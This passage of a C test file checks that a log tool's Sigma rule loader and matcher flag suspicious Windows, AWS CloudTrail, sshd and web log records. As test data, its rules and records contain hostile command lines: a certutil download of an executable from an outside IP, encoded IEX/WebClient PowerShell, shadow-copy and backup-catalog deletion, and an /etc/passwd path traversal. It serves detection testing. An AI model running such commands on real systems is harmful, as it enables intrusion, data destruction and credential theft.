/*
 * test_sigma.c - Sigma rules loaded as published (rules/sigma.c), matched
 * by the one matcher on records parsed by corral's own parsers.
 *
 * The rules are written here from the Sigma specification (modifiers,
 * keywords, null, conditions) in the form SigmaHQ publishes; the records
 * are the shapes real sources ship (NXLog-flat and Winlogbeat Windows JSON,
 * CloudTrail, sshd syslog, an access log line). The logsource mapping is the
 * default one, configs/sigma/logsources.yaml, so a change to it that breaks
 * a shape shows here. Rules corral cannot run are skipped with a reason and
 * counted; they never fail the load.
 */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "cli/commands.h"
#include "parsers/parser.h"
#include "rules/matcher.h"
#include "testutil.h"

static char *dir;
static char err[16384];
static struct cr_ruleset *rs;
static struct cr_matcher *m;
static struct cr_parser *parser;

static void put(const char *name, const char *text)
{
    char path[1200];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    cr_assert_eq(cr_test_write_file(path, text, strlen(text)), 0);
}

/* Load the default mapping and the Sigma rules in dir. */
static struct cr_ruleset *load(void)
{
    const char *paths[] = {cr_test_source_path("configs/sigma"), dir};
    err[0] = 0;
    return cr_ruleset_load(paths, 2, NULL, err, sizeof err);
}

static void start(void)
{
    rs = load();
    cr_assert_not_null(rs, "%s", err);
    m = cr_matcher_new(rs);
    cr_assert_not_null(m);
    struct cr_parse_opts o = {.format = CR_FMT_AUTO, .year = 2026};
    o.extra_names = rs->field_names;
    o.n_extra_names = (unsigned)rs->nfields;
    parser = cr_parser_new(&o);
    cr_assert_not_null(parser);
}

static void setup(void)
{
    dir = cr_test_tmpdir();
    cr_assert_not_null(dir);
}

static void teardown(void)
{
    cr_parser_free(parser);
    cr_matcher_free(m);
    cr_ruleset_free(rs);
    parser = NULL;
    m = NULL;
    rs = NULL;
    cr_test_rmtree(dir);
    free(dir);
}

TestSuite(sigma);

/* Titles of the rules a record matches, space-separated. */
static const char *matches(const char *rec)
{
    static char buf[2048];
    struct cr_event ev;
    cr_parse(parser, rec, strlen(rec), 0, &ev);
    uint32_t out[64];
    int n = cr_matcher_match(m, &ev, out, 64);
    cr_assert_geq(n, 0);
    buf[0] = 0;
    for (int i = 0; i < n; i++) {
        strcat(buf, i ? " " : "");
        strcat(buf, rs->rules[out[i]].title);
    }
    return buf;
}

#define RULE(id, title, logsource, detection)                                                      \
    "title: " title "\nid: " id "\nstatus: test\nauthor: corral tests\nlevel: high\n"              \
    "tags:\n  - attack.execution\n  - attack.t1059.001\n"                                          \
    "logsource:\n" logsource "detection:\n" detection

#define WIN_PROC "  product: windows\n  category: process_creation\n"

/* Sysmon process creation in NXLog's flat shape and in Winlogbeat's. */
#define SYSMON_FLAT(image, cmd)                                                                    \
    "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Hostname\":\"WS5\","    \
    "\"Image\":\"" image "\",\"CommandLine\":\"" cmd "\",\"ParentImage\":\"C:\\\\Windows\\\\"      \
    "explorer.exe\",\"User\":\"LAB\\\\wardog\",\"TimeCreated\":\"2026-10-18T10:56:18Z\"}"
#define SYSMON_BEAT(image, cmd)                                                                    \
    "{\"@timestamp\":\"2026-10-18T10:56:18Z\",\"host\":{\"name\":\"WS6\"},\"winlog\":{"            \
    "\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":1,\"event_data\":{"         \
    "\"Image\":\"" image "\",\"CommandLine\":\"" cmd "\"}}}"

Test(sigma, string_modifiers_and_wildcards_match_case_insensitively, .init = setup,
     .fini = teardown)
{
    put("a.yml", RULE("00000000-0000-0000-0000-00000000000a", "encoded powershell", WIN_PROC,
                      "  selection_img:\n    Image|endswith: '\\powershell.exe'\n"
                      "  selection_cli:\n    CommandLine|contains|all:\n      - ' -enc'\n"
                      "      - 'bypass'\n"
                      "  condition: all of selection_*\n"));
    put("b.yml", RULE("00000000-0000-0000-0000-00000000000b", "temp binary", WIN_PROC,
                      "  selection:\n    Image|startswith: 'C:\\Users\\'\n"
                      "    Image: '*\\AppData\\Local\\Temp\\\\*.exe'\n  condition: selection\n"));
    /* Sigma's escapes: '\\*' is a backslash and then the wildcard; '\*' alone
     * would be a literal star */
    start();
    cr_assert_str_eq(matches(SYSMON_FLAT(
                         "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\POWERSHELL.EXE",
                         "powershell.exe -ExecutionPolicy Bypass -enc SQBFAFgA")),
                     "encoded powershell");
    cr_assert_str_eq(matches(SYSMON_FLAT(
                         "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
                         "powershell.exe -enc SQBFAFgA")),
                     "", "contains|all: every value must be there");
    cr_assert_str_eq(
        matches(SYSMON_BEAT("C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\x.exe", "x.exe")),
        "temp binary", "the Winlogbeat shape of the same event");
    cr_assert_str_eq(
        matches(SYSMON_FLAT("C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\x.dll", "x")), "",
        "the wildcard pattern is anchored at both ends");
    /* the logsource's select: the same fields on a non-process event do not match */
    cr_assert_str_eq(
        matches("{\"EventID\":11,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
                "\"Image\":\"C:\\\\Users\\\\b\\\\AppData\\\\Local\\\\Temp\\\\x.exe\"}"),
        "");
    cr_assert_eq(rs->sigma.loaded, 2);
    cr_assert_eq(rs->sigma.skipped, 0, "%s", rs->sigma.skips ? rs->sigma.skips : "");
}

/* A record whose scans hit only selects and filters (no rule a candidate)
 * leaves nothing behind: the next record's select is its own. The matcher
 * once returned early there without resetting, so with no unconditional
 * rule loaded the next record inherited Channel and EventID 1. */
Test(sigma, a_record_without_candidates_leaves_no_hits_behind, .init = setup, .fini = teardown)
{
    put("b.yml", RULE("00000000-0000-0000-0000-00000000000b", "temp binary", WIN_PROC,
                      "  selection:\n    Image|startswith: 'C:\\Users\\'\n"
                      "    Image: '*\\AppData\\Local\\Temp\\\\*.exe'\n  condition: selection\n"));
    start();
    cr_assert_eq(rs->nunconditional, 0);
    cr_assert_str_eq(matches(SYSMON_FLAT("C:\\\\Windows\\\\notepad.exe", "notepad")), "");
    cr_assert_str_eq(
        matches(
            "{\"EventID\":11,\"Image\":\"C:\\\\Users\\\\b\\\\AppData\\\\Local\\\\Temp\\\\x.exe\"}"),
        "", "no Channel, EventID 11: not a process creation");
    cr_assert_str_eq(
        matches(SYSMON_FLAT("C:\\\\Users\\\\b\\\\AppData\\\\Local\\\\Temp\\\\x.exe", "x")),
        "temp binary");
}

Test(sigma, conditions_not_parentheses_one_of_them, .init = setup, .fini = teardown)
{
    put("c.yml", RULE("00000000-0000-0000-0000-00000000000c", "rundll32 unusual", WIN_PROC,
                      "  sel_img:\n    Image|endswith: '\\rundll32.exe'\n"
                      "  sel_a:\n    CommandLine|contains: 'javascript:'\n"
                      "  sel_b:\n    CommandLine|contains: 'shell32.dll,ShellExec_RunDLL'\n"
                      "  filter_main:\n    ParentImage|endswith: '\\msiexec.exe'\n"
                      "  condition: sel_img and (sel_a or sel_b) and not 1 of filter_*\n"));
    put("d.yml", RULE("00000000-0000-0000-0000-00000000000d", "any of them", WIN_PROC,
                      "  x1:\n    CommandLine|contains: 'vssadmin delete shadows'\n"
                      "  x2:\n    CommandLine|contains: 'wbadmin delete catalog'\n"
                      "  condition: 1 of them\n"));
    start();
    cr_assert_str_eq(matches(SYSMON_FLAT("C:\\\\Windows\\\\System32\\\\rundll32.exe",
                                         "rundll32.exe javascript:\\\"\\\\..\\\\mshtml\\\"")),
                     "rundll32 unusual");
    cr_assert_str_eq(matches(SYSMON_FLAT("C:\\\\Windows\\\\System32\\\\rundll32.exe",
                                         "rundll32.exe advpack.dll,LaunchINFSection")),
                     "");
    cr_assert_str_eq(matches(SYSMON_FLAT("C:\\\\Windows\\\\System32\\\\cmd.exe",
                                         "cmd /c WBADMIN DELETE CATALOG -quiet")),
                     "any of them");
    /* a record that only hits the filter (ParentImage is explorer.exe in
     * SYSMON_FLAT; here msiexec) is not even a candidate: a pattern under
     * `not` can never be what makes the condition hold */
    uint64_t before = cr_matcher_stats(m)->candidates;
    cr_assert_str_eq(matches("{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
                             "\"Image\":\"C:\\\\x\\\\setup.exe\",\"CommandLine\":\"setup\","
                             "\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\msiexec.exe\"}"),
                     "");
    cr_assert_eq(cr_matcher_stats(m)->candidates, before);
}

Test(sigma, re_cidr_exists_null_numbers_fieldref_base64offset_windash, .init = setup,
     .fini = teardown)
{
    put("e.yml", RULE("00000000-0000-0000-0000-00000000000e", "re and windash", WIN_PROC,
                      "  sel:\n    CommandLine|re: '(?i)certutil(\\.exe)? .*[-/]urlcache'\n"
                      "  sel2:\n    CommandLine|windash|contains: ' -f '\n"
                      "  condition: sel and sel2\n"));
    put("f.yml", "title: cloud from outside\nid: 00000000-0000-0000-0000-00000000000f\n"
                 "status: test\nlevel: medium\nlogsource:\n  product: aws\n  service: cloudtrail\n"
                 "detection:\n  sel:\n    eventName: ConsoleLogin\n"
                 "    additionalEventData.MFAUsed: 'No'\n"
                 "    errorMessage: null\n"
                 "  filter_internal:\n    sourceIPAddress|cidr:\n      - '10.0.0.0/8'\n"
                 "      - '192.168.0.0/16'\n"
                 "  condition: sel and not filter_internal\n");
    put("g.yml", "title: encoded iex\nid: 00000000-0000-0000-0000-000000000010\nstatus: test\n"
                 "level: critical\nlogsource:\n  product: windows\n  category: process_creation\n"
                 "detection:\n  sel:\n    CommandLine|base64offset|contains: 'IEX (New-Object'\n"
                 "  condition: sel\n");
    put("h.yml", "title: user is parent\nid: 00000000-0000-0000-0000-000000000011\nstatus: test\n"
                 "level: medium\nlogsource:\n  product: windows\n  category: process_creation\n"
                 "detection:\n  sel:\n    Image|fieldref: ParentImage\n"
                 "  has_user:\n    User|exists: true\n  condition: sel and has_user\n");
    start();
    cr_assert_str_eq(
        matches(SYSMON_FLAT("C:\\\\Windows\\\\System32\\\\certutil.exe",
                            "CertUtil.exe /urlcache /f http://198.51.100.7/a.exe a.exe")),
        "re and windash", "/f is the same flag as -f");
    const char *ct_out =
        "{\"eventVersion\":\"1.08\",\"eventTime\":\"2026-03-02T08:00:00Z\",\"eventSource\":"
        "\"signin.amazonaws.com\",\"eventName\":\"ConsoleLogin\",\"sourceIPAddress\":"
        "\"203.0.113.9\",\"userIdentity\":{\"type\":\"IAMUser\",\"userName\":\"ops\"},"
        "\"additionalEventData\":{\"MFAUsed\":\"No\"},\"responseElements\":{\"ConsoleLogin\":"
        "\"Success\"}}";
    cr_assert_str_eq(matches(ct_out), "cloud from outside");
    char ct_in[1024];
    snprintf(ct_in, sizeof ct_in, "%s", ct_out);
    memcpy(strstr(ct_in, "203.0.113.9"), "192.168.7.9", 11);
    cr_assert_str_eq(matches(ct_in), "", "inside 192.168.0.0/16: filtered");
    const char *ct_err =
        "{\"eventTime\":\"2026-03-02T08:00:00Z\",\"eventSource\":\"signin.amazonaws.com\","
        "\"eventName\":\"ConsoleLogin\",\"sourceIPAddress\":\"203.0.113.9\",\"userIdentity\":"
        "{\"type\":\"IAMUser\"},\"additionalEventData\":{\"MFAUsed\":\"No\"},"
        "\"errorMessage\":\"Failed authentication\"}";
    cr_assert_str_eq(matches(ct_err), "", "errorMessage: null means absent or empty");
    /* "IEX (New-Object" inside a longer base64 text, at each of the three offsets */
    cr_assert_str_eq(matches(SYSMON_FLAT("C:\\\\p.exe",
                                         "powershell -e SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQp")),
                     "encoded iex");
    cr_assert_str_eq(
        matches(SYSMON_FLAT("C:\\\\p.exe",
                            "powershell -e ICBJRVggKE5ldy1PYmplY3QgTmV0LldlYkNsaWVudCk=")),
        "encoded iex");
    cr_assert_str_eq(matches(SYSMON_FLAT("C:\\\\p.exe", "powershell -e aWV4IChuZXctb2JqZWN0")), "",
                     "base64 is case-sensitive: 'iex (new-object' is another text");
    cr_assert_str_eq(matches("{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
                             "\"Image\":\"C:\\\\A.exe\",\"ParentImage\":\"c:\\\\a.exe\","
                             "\"User\":\"x\"}"),
                     "user is parent");
    cr_assert_str_eq(matches("{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
                             "\"Image\":\"C:\\\\A.exe\",\"ParentImage\":\"c:\\\\a.exe\"}"),
                     "", "User|exists: true");
}

Test(sigma, keywords_on_syslog_and_webserver_fields, .init = setup, .fini = teardown)
{
    put("k.yml", "title: sshd crypto error\nid: 00000000-0000-0000-0000-000000000020\n"
                 "status: test\nlevel: high\nlogsource:\n  product: linux\n  service: sshd\n"
                 "detection:\n  keywords:\n    - 'error in libcrypto'\n"
                 "    - 'unexpected internal error'\n  condition: keywords\n");
    put("w.yml", "title: path traversal\nid: 00000000-0000-0000-0000-000000000021\n"
                 "status: test\nlevel: medium\nlogsource:\n  category: webserver\n"
                 "detection:\n  sel:\n    cs-uri-query|contains: '../../'\n"
                 "    sc-status: 200\n    cs-method: GET\n  condition: sel\n");
    start();
    cr_assert_str_eq(matches("<38>Mar  2 08:00:01 web-01 sshd[4242]: error in libcrypto: "
                             "bad signature"),
                     "sshd crypto error");
    cr_assert_str_eq(matches("<38>Mar  2 08:00:01 web-01 cron[42]: error in libcrypto"), "",
                     "the keyword is for sshd's records only");
    cr_assert_str_eq(matches("203.0.113.5 - - [02/Mar/2026:08:00:00 +0000] \"GET "
                             "/download?file=../../etc/passwd HTTP/1.1\" 200 512 \"-\" \"curl/8\""),
                     "path traversal");
    cr_assert_str_eq(matches("203.0.113.5 - - [02/Mar/2026:08:00:00 +0000] \"GET "
                             "/download?file=../../etc/passwd HTTP/1.1\" 404 512 \"-\" \"curl/8\""),
                     "");
}

/* What corral cannot run is skipped with file:line: reason and counted;
 * the rest of the directory loads. */
Test(sigma, rules_that_cannot_run_are_skipped_and_counted, .init = setup, .fini = teardown)
{
    put("ok.yml", RULE("00000000-0000-0000-0000-000000000030", "fine", WIN_PROC,
                       "  sel:\n    Image|endswith: '\\x.exe'\n  condition: sel\n"));
    put("mod.yml", RULE("00000000-0000-0000-0000-000000000031", "modifier", WIN_PROC,
                        "  sel:\n    Image|sounds_like: 'x'\n  condition: sel\n"));
    put("ls.yml", "title: t\nid: 00000000-0000-0000-0000-000000000032\nlogsource:\n"
                  "  product: amiga\ndetection:\n  sel: {a: b}\n  condition: sel\n");
    put("agg.yml", RULE("00000000-0000-0000-0000-000000000033", "aggregation", WIN_PROC,
                        "  sel:\n    Image|endswith: '\\x.exe'\n  condition: sel | count() > 5\n"));
    put("dep.yml", "title: old\nid: 00000000-0000-0000-0000-000000000034\nstatus: deprecated\n"
                   "logsource:\n  product: windows\n  category: process_creation\n"
                   "detection:\n  sel: {Image: x}\n  condition: sel\n");
    put("zdup.yml", RULE("00000000-0000-0000-0000-000000000030", "again", WIN_PROC,
                         "  sel:\n    Image|endswith: '\\y.exe'\n  condition: sel\n"));
    put("cond.yml", RULE("00000000-0000-0000-0000-000000000035", "unknown id", WIN_PROC,
                         "  sel:\n    Image|endswith: '\\x.exe'\n  condition: sel and nothere\n"));
    start();
    const struct cr_sigma_stats *st = &rs->sigma;
    cr_assert_eq(st->loaded, 1);
    cr_assert_eq(st->skipped, 6, "%s", st->skips);
    cr_assert_eq(st->by_reason[CR_SIGMA_SKIP_MODIFIER], 1);
    cr_assert_eq(st->by_reason[CR_SIGMA_SKIP_LOGSOURCE], 1);
    cr_assert_eq(st->by_reason[CR_SIGMA_SKIP_CONDITION], 2);
    cr_assert_eq(st->by_reason[CR_SIGMA_SKIP_STATUS], 1);
    cr_assert_eq(st->by_reason[CR_SIGMA_SKIP_DUPLICATE], 1);
    char want[1400];
    snprintf(want, sizeof want,
             "%s/mod.yml:14: skipped: rule 00000000-0000-0000-0000-000000000031: "
             "field 'Image': unknown modifier 'sounds_like'",
             dir);
    cr_assert(strstr(st->skips, want), "%s", st->skips);
    snprintf(want, sizeof want,
             "%s/ls.yml:4: skipped: rule 00000000-0000-0000-0000-000000000032: "
             "no sigma_logsources entry for logsource product=amiga",
             dir);
    cr_assert(strstr(st->skips, want), "%s", st->skips);
    cr_assert(strstr(st->skips, "deprecated Sigma; write a correlation rule"), "%s", st->skips);
    cr_assert(strstr(st->skips, "unknown search identifier 'nothere'"), "%s", st->skips);
    /* the rule that loaded carries its attribution and grading */
    const struct cr_rule *r =
        &rs->rules[cr_ruleset_find_rule(rs, "00000000-0000-0000-0000-000000000030")];
    cr_assert_str_eq(r->title, "fine");
    cr_assert_str_eq(r->sigma->author, "corral tests");
    cr_assert_str_eq(r->sigma->level, "high");
    cr_assert_str_eq(r->sigma->attack, "T1059.001");
    cr_assert_str_eq(r->incident->priority, "P2", "level high is P2");
    cr_assert_str_eq(r->incident->category, "S-ATK-EXPL", "attack.execution");
}

/* The mapping is corral's own file: strict, like the rest of the config. */
Test(sigma, a_wrong_mapping_is_an_error_naming_file_and_line, .init = setup, .fini = teardown)
{
    put("map.yaml", "sigma_logsources:\n  - logsource: { product: x }\n    category: S-NOPE\n"
                    "  - { logsource: { product: y }, colour: red }\n");
    const char *paths[] = {dir};
    err[0] = 0;
    cr_assert_null(cr_ruleset_load(paths, 1, NULL, err, sizeof err));
    char want[1300];
    snprintf(want, sizeof want, "%s/map.yaml:3: unknown category 'S-NOPE'", dir);
    cr_assert(strstr(err, want), "%s", err);
    cr_assert(strstr(err, "unknown key 'colour'"), "%s", err);
}

/* A Sigma correlation (v2.1) and the rule it names in one file, as the
 * specification shows them: compiled onto corral's correlation engine and
 * run by `corral test-rules` through the real parser, matcher and
 * correlator. generate: false (the default) keeps the base rule from
 * opening incidents of its own (`exact: true` checks). */
Test(sigma, a_correlation_rule_runs_on_the_correlation_engine, .init = setup, .fini = teardown)
{
    put("bf.yml", "title: AWS console login failure\nid: 9b1b2f3c-0000-4000-8000-000000000001\n"
                  "name: aws_console_login_failure\nstatus: test\nlevel: low\nlogsource:\n"
                  "  product: aws\n  service: cloudtrail\ndetection:\n  selection:\n"
                  "    eventSource: signin.amazonaws.com\n    eventName: ConsoleLogin\n"
                  "    errorMessage|exists: true\n  condition: selection\n"
                  "---\n"
                  "title: AWS console brute force\nid: 9b1b2f3c-0000-4000-8000-000000000002\n"
                  "status: test\nlevel: high\ntags:\n  - attack.credential_access\n"
                  "correlation:\n  type: event_count\n  rules:\n    - aws_console_login_failure\n"
                  "  group-by:\n    - sourceIPAddress\n  timespan: 5m\n  condition:\n    gte: 5\n");
#define FAIL_LOGIN                                                                                 \
    "'{\"eventTime\":\"2026-03-02T08:00:00Z\",\"eventSource\":\"signin.amazonaws.com\","           \
    "\"eventName\":\"ConsoleLogin\",\"sourceIPAddress\":\"203.0.113.9\",\"userIdentity\":"         \
    "{\"type\":\"IAMUser\",\"userName\":\"ops\"},\"errorMessage\":\"Failed authentication\"}'"
    char fx[1200], cfg[1200], rules[1200];
    snprintf(rules, sizeof rules, "%s/rules", dir);
    cr_assert_eq(mkdir(rules, 0755), 0);
    char src[1200], dst[1200];
    snprintf(src, sizeof src, "%s/bf.yml", dir);
    snprintf(dst, sizeof dst, "%s/rules/bf.yml", dir);
    cr_assert_eq(rename(src, dst), 0);
    snprintf(fx, sizeof fx, "%s/fx.yaml", dir);
    put("fx.yaml", "tests:\n"
                   "  - name: five failures from one address in five minutes\n"
                   "    events:\n      - { at: 0s, repeat: 5, every: 30s, log: " FAIL_LOGIN " }\n"
                   "    expect:\n      - { rule: 9b1b2f3c-0000-4000-8000-000000000002, "
                   "category: S-ATK-BRUTE, priority: P2, event_count: 5 }\n"
                   "    exact: true\n"
                   "  - name: four are not enough\n"
                   "    events:\n      - { at: 0s, repeat: 4, every: 30s, log: " FAIL_LOGIN " }\n"
                   "      - { at: 10m }\n"
                   "    exact: true\n"
                   "  - name: five spread over ten minutes are not a burst\n"
                   "    events:\n      - { at: 0s, repeat: 5, every: 2m, log: " FAIL_LOGIN " }\n"
                   "    exact: true\n");
    snprintf(cfg, sizeof cfg, "%s/c.yaml", dir);
    char text[3000];
    snprintf(text, sizeof text, "rules: [%s, %s]\n", cr_test_source_path("configs/sigma"), rules);
    put("c.yaml", text);
    char *argv[] = {"test-rules", "-c", cfg, fx, NULL};
    cr_assert_eq(cr_cmd_test_rules(4, argv), 0, "the fixture must pass (see stdout)");
    /* and the loader says what it made of it */
    const char *paths[] = {cr_test_source_path("configs/sigma"), rules};
    rs = cr_ruleset_load(paths, 2, NULL, err, sizeof err);
    cr_assert_not_null(rs, "%s", err);
    cr_assert_eq(rs->sigma.loaded, 2);
    cr_assert_eq(rs->ncorrs, 1);
    cr_assert_eq(rs->corrs[0].type, CR_CORR_EVENT_COUNT);
    cr_assert_eq(rs->corrs[0].gte, 5);
    cr_assert_eq(rs->corrs[0].timespan_ms, 300000);
    /* its incidents carry its own attribution; a rule's carry the rule's */
    cr_assert_str_eq(rs->corrs[0].annotation,
                     "{\"attack\":[],\"sigma\":{\"id\":\"9b1b2f3c-0000-4000-8000-000000000002\","
                     "\"title\":\"AWS console brute force\",\"level\":\"high\",\"status\":\"test\","
                     "\"author\":\"\",\"references\":[]}}");
    cr_assert(strstr(rs->rules[cr_ruleset_find_rule(rs, "9b1b2f3c-0000-4000-8000-000000000001")]
                         .sigma->annotation,
                     "\"title\":\"AWS console login failure\",\"level\":\"low\""));
    cr_assert_null(
        rs->rules[cr_ruleset_find_rule(rs, "9b1b2f3c-0000-4000-8000-000000000001")].incident,
        "generate: false");
}

/* What the correlation compiler cannot run yet is skipped and counted. */
Test(sigma, correlations_that_cannot_run_are_skipped, .init = setup, .fini = teardown)
{
    put("a.yml", RULE("00000000-0000-0000-0000-000000000040", "base", WIN_PROC,
                      "  sel:\n    Image|endswith: '\\x.exe'\n  condition: sel\n"));
    put("b.yml", "title: rare\nid: 00000000-0000-0000-0000-000000000041\ncorrelation:\n"
                 "  type: value_median\n  rules: [00000000-0000-0000-0000-000000000040]\n"
                 "  group-by: [User]\n  timespan: 1h\n  condition: {gte: 5, field: x}\n");
    put("c.yml", "title: missing\nid: 00000000-0000-0000-0000-000000000042\ncorrelation:\n"
                 "  type: event_count\n  rules: [no_such_rule]\n  group-by: [User]\n"
                 "  timespan: 1h\n  condition: {gte: 5}\n");
    /* value_sum without condition.field; a temporal_ordered of 1 of 2 rules */
    put("d.yml", "title: sum\nid: 00000000-0000-0000-0000-000000000043\ncorrelation:\n"
                 "  type: value_sum\n  rules: [00000000-0000-0000-0000-000000000040]\n"
                 "  group-by: [User]\n  timespan: 1h\n  condition: {gt: 1000}\n");
    put("e.yml", "title: ordered\nid: 00000000-0000-0000-0000-000000000044\ncorrelation:\n"
                 "  type: temporal_ordered\n  rules: [00000000-0000-0000-0000-000000000040,\n"
                 "    00000000-0000-0000-0000-000000000040]\n"
                 "  group-by: [User]\n  timespan: 1h\n  condition: {gte: 1}\n");
    start();
    cr_assert_eq(rs->sigma.loaded, 1);
    cr_assert_eq(rs->sigma.by_reason[CR_SIGMA_SKIP_CORRELATION], 4, "%s", rs->sigma.skips);
    cr_assert(strstr(rs->sigma.skips, "b.yml:1: skipped: correlation "
                                      "00000000-0000-0000-0000-000000000041: type 'value_median' "
                                      "is not compiled yet"),
              "%s", rs->sigma.skips);
    cr_assert(strstr(rs->sigma.skips, "d.yml:1: skipped: correlation "
                                      "00000000-0000-0000-0000-000000000043: value_sum needs "
                                      "condition.field"),
              "%s", rs->sigma.skips);
    cr_assert(strstr(rs->sigma.skips, "e.yml:1: skipped: correlation "
                                      "00000000-0000-0000-0000-000000000044: temporal_ordered "
                                      "with a condition other than all 2 rules"),
              "%s", rs->sigma.skips);
    cr_assert(strstr(rs->sigma.skips, "rule 'no_such_rule' is not a loaded Sigma rule"), "%s",
              rs->sigma.skips);
}

/* sigma_min_level (medium in the default mapping): a low rule loads and
 * matches, so a correlation can count it, but opens no incident alone. */
Test(sigma, rules_below_the_minimum_level_match_but_do_not_alert, .init = setup, .fini = teardown)
{
    put("low.yml", "title: assumed role used\nid: 00000000-0000-0000-0000-000000000050\n"
                   "status: test\nlevel: low\nlogsource:\n  product: aws\n  service: cloudtrail\n"
                   "detection:\n  sel:\n    userIdentity.type: AssumedRole\n  condition: sel\n");
    put("none.yml", "title: no level\nid: 00000000-0000-0000-0000-000000000051\nstatus: test\n"
                    "logsource:\n  product: aws\n  service: cloudtrail\n"
                    "detection:\n  sel:\n    userIdentity.type: AssumedRole\n  condition: sel\n");
    start();
    cr_assert_eq(rs->sigma.loaded, 2);
    cr_assert_eq(rs->sigma.silent, 1);
    cr_assert_str_eq(matches("{\"eventTime\":\"2026-03-02T08:00:00Z\",\"eventSource\":"
                             "\"s3.amazonaws.com\",\"eventName\":\"ListBuckets\",\"userIdentity\":"
                             "{\"type\":\"AssumedRole\"}}"),
                     "assumed role used no level");
    cr_assert_null(
        rs->rules[cr_ruleset_find_rule(rs, "00000000-0000-0000-0000-000000000050")].incident);
    cr_assert_not_null(
        rs->rules[cr_ruleset_find_rule(rs, "00000000-0000-0000-0000-000000000051")].incident,
        "a rule without a level counts as medium");
    cr_assert_str_eq(rs->rules[cr_ruleset_find_rule(rs, "00000000-0000-0000-0000-000000000051")]
                         .incident->priority,
                     "P3", "and is graded as medium");
}

/* The same value in many rules is compiled once (hs_db.c chains the
 * duplicates) and still reported for every rule that has it; the same text
 * with other flags (cased) is another pattern. */
Test(sigma, identical_values_in_many_rules_match_them_all, .init = setup, .fini = teardown)
{
    put("d1.yml", RULE("00000000-0000-0000-0000-000000000061", "one", WIN_PROC,
                       "  sel:\n    Image|endswith: '\\evil.exe'\n  condition: sel\n"));
    put("d2.yml", RULE("00000000-0000-0000-0000-000000000062", "two", WIN_PROC,
                       "  sel:\n    Image|endswith: '\\evil.exe'\n    User: 'LAB\\wardog'\n"
                       "  condition: sel\n"));
    put("d3.yml", RULE("00000000-0000-0000-0000-000000000063", "three", WIN_PROC,
                       "  sel:\n    Image|endswith|cased: '\\evil.exe'\n  condition: sel\n"));
    start();
    cr_assert_str_eq(matches(SYSMON_FLAT("C:\\\\tmp\\\\evil.exe", "evil")), "one two three");
    cr_assert_str_eq(matches(SYSMON_FLAT("C:\\\\tmp\\\\EVIL.EXE", "evil")), "one two",
                     "caseless for one and two, cased for three");
}

/* YAML keys are unique: a Sigma rule repeating one (libyaml keeps both and
 * a lookup would see only the first) is skipped as invalid, naming the
 * line; the rest loads. */
Test(sigma, a_repeated_key_skips_the_rule, .init = setup, .fini = teardown)
{
    put("ok.yml", RULE("00000000-0000-0000-0000-000000000040", "fine", WIN_PROC,
                       "  sel:\n    Image|endswith: '\\x.exe'\n  condition: sel\n"));
    put("dupkey.yml", RULE("00000000-0000-0000-0000-000000000041", "twice", WIN_PROC,
                           "  sel:\n    Image|endswith: '\\x.exe'\n    Image|endswith: '\\y.exe'\n"
                           "  condition: sel\n"));
    start();
    const struct cr_sigma_stats *st = &rs->sigma;
    cr_assert_eq(st->loaded, 1, "%s", st->skips ? st->skips : "");
    cr_assert_eq(st->by_reason[CR_SIGMA_SKIP_INVALID], 1);
    cr_assert(strstr(st->skips, "/dupkey.yml:") &&
                  strstr(st->skips, "duplicate key 'Image|endswith'"),
              "%s", st->skips);
}

/* Sigma filters (v2.1 global filters): a site's tuning ANDed under `not` to
 * the rules it names, by id or by name, when its logsource fits; one that
 * fits no loaded rule, or does not compile, says so. */
Test(sigma, filters_tune_the_rules_they_name, .init = setup, .fini = teardown)
{
    put("rar.yml", RULE("00000000-0000-0000-0000-000000000060", "rar compress", WIN_PROC,
                        "  sel:\n    Image|endswith: '\\rar.exe'\n    CommandLine|contains: ' a '\n"
                        "  condition: sel\n"));
    put("7z.yml", "title: 7z compress\nid: 00000000-0000-0000-0000-000000000061\nname: seven_zip\n"
                  "status: test\nlevel: high\nlogsource:\n" WIN_PROC "detection:\n  sel:\n"
                  "    Image|endswith: '\\7z.exe'\n  condition: sel\n");
    put("mf_admins.yml", "title: Filter administrator accounts\n"
                         "id: 00000000-0000-0000-0000-0000000000f1\nlogsource:\n"
                         "  category: process_creation\n  product: windows\nfilter:\n  rules:\n"
                         "    - 00000000-0000-0000-0000-000000000060\n    - seven_zip\n"
                         "  selection:\n    User|startswith: 'LAB\\adm_'\n"
                         "  backup:\n    ParentImage|endswith: '\\backup.exe'\n"
                         "  condition: selection or backup\n");
    put("mf_linux.yml", "title: Filter for another logsource\n"
                        "id: 00000000-0000-0000-0000-0000000000f2\nlogsource:\n  product: linux\n"
                        "filter:\n  rules: [00000000-0000-0000-0000-000000000060]\n"
                        "  selection:\n    User: root\n  condition: selection\n");
    start();
    cr_assert_eq(rs->sigma.loaded, 2, "%s", rs->sigma.skips);
    cr_assert_eq(rs->sigma.filters, 1);
    cr_assert(strstr(rs->sigma.skips, "filter 00000000-0000-0000-0000-0000000000f2: names no "
                                      "loaded rule of its logsource"),
              "%s", rs->sigma.skips);
#define PROC(image, cmd, user, parent)                                                             \
    "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Hostname\":\"WS5\","    \
    "\"Image\":\"" image "\",\"CommandLine\":\"" cmd "\",\"User\":\"" user                         \
    "\",\"ParentImage\":\"" parent "\"}"
    cr_assert_str_eq(
        matches(PROC("C:\\\\Program Files\\\\WinRAR\\\\rar.exe", "rar a x.rar C:\\\\data",
                     "LAB\\\\wardog", "C:\\\\Windows\\\\explorer.exe")),
        "rar compress");
    cr_assert_str_eq(
        matches(PROC("C:\\\\Program Files\\\\WinRAR\\\\rar.exe", "rar a x.rar C:\\\\data",
